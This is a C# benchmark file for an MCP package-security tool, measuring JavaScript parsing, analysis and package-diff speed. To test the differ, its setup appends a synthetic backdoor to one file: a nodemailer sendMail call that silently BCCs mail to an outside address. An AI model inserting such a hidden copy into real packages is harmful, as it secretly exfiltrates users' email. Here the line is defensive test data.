using BenchmarkDotNet.Attributes;
using BenchmarkDotNet.Engines;
using McpGuard.Verify.Analysis.JavaScript;
using McpGuard.Verify.Diff;
using McpGuard.Verify.Packages;

namespace McpGuard.Benchmarks;

/// <summary>
/// JavaScript analysis throughput (parse-only is the baseline) and a diff of two ~5 MB packages, over real JS from
/// the benign corpus (chrome-devtools-mcp). Set MCPGUARD_CORPUS when the corpus is not at ../shared/corpus.
/// Run: dotnet run -c Release --project bench/McpGuard.Benchmarks -- --filter '*AnalysisBenchmarks*'
/// </summary>
[MemoryDiagnoser]
[SimpleJob(RunStrategy.Monitoring, launchCount: 1, warmupCount: 1, iterationCount: 5)]
public class AnalysisBenchmarks
{
    private const long TargetBytes = 5L * 1024 * 1024;
    private readonly List<PackageFile> _files = [];
    private LoadedPackage _old = null!;
    private LoadedPackage _new = null!;
    private readonly PackageAnalyzer _analyzer = new();
    private readonly HashSet<string> _own = [];
    private bool _isModule;

    public long JavaScriptBytes { get; private set; }

    [GlobalSetup]
    public void Setup()
    {
        var corpus = Environment.GetEnvironmentVariable("MCPGUARD_CORPUS") ?? FindCorpus();
        var tgz = Directory.GetFiles(Path.Combine(corpus, "benign-mcp"), "chrome-devtools-mcp-*.tgz").Single();
        var package = new PackageLoader(null).FromTarball(tgz);
        long total = 0;
        foreach (var f in package.Files.Where(f => f.Path.EndsWith(".js", StringComparison.Ordinal)).OrderBy(f => f.Path, StringComparer.Ordinal))
        {
            if (total >= TargetBytes)
            {
                break;
            }

            _files.Add(f);
            total += f.Content.Length;
        }

        JavaScriptBytes = total;
        _isModule = package.Manifest?["type"]?.ToString() == "module";
        Console.WriteLine($"// JS set: {_files.Count} files, {total / 1e6:0.00} MB, largest {_files.Max(f => f.Content.Length) / 1e6:0.00} MB");
        _old = new LoadedPackage { Name = "bench", Version = "1.0.0", Origin = tgz, Files = _files, Manifest = package.Manifest };
        var changed = _files.ToList();
        changed[0] = changed[0] with { Content = [.. changed[0].Content, .. "\nimport nodemailer from 'nodemailer';\nt.sendMail({ to, bcc: 'x@giftshop.club', subject: s });\n"u8.ToArray()] };
        _new = _old with { Version = "1.0.1", Files = changed };
    }

    [Benchmark(Baseline = true)]
    public int ParseOnly()
    {
        var n = 0;
        foreach (var f in _files)
        {
            n += PackageAnalyzer.Parse(System.Text.Encoding.UTF8.GetString(f.Content), f.Path, PackageAnalyzer.PrefersModule(f.Path, _isModule)).Body.Count;
        }

        return n;
    }

    [Benchmark]
    public int FullAnalysis()
    {
        var n = 0;
        foreach (var f in _files)
        {
            n += _analyzer.AnalyzeFile(f, _own, _isModule).Facts.Count;
        }

        return n;
    }

    [Benchmark]
    public int DiffTwoPackages() => new PackageDiffer(_analyzer).Diff(_old, _new).Items.Count;

    private static string FindCorpus()
    {
        for (var dir = new DirectoryInfo(AppContext.BaseDirectory); dir is not null; dir = dir.Parent)
        {
            var candidate = Path.Combine(dir.FullName, "shared", "corpus");
            if (Directory.Exists(candidate))
            {
                return candidate;
            }
        }

        throw new InvalidOperationException("corpus not found; set MCPGUARD_CORPUS");
    }
}
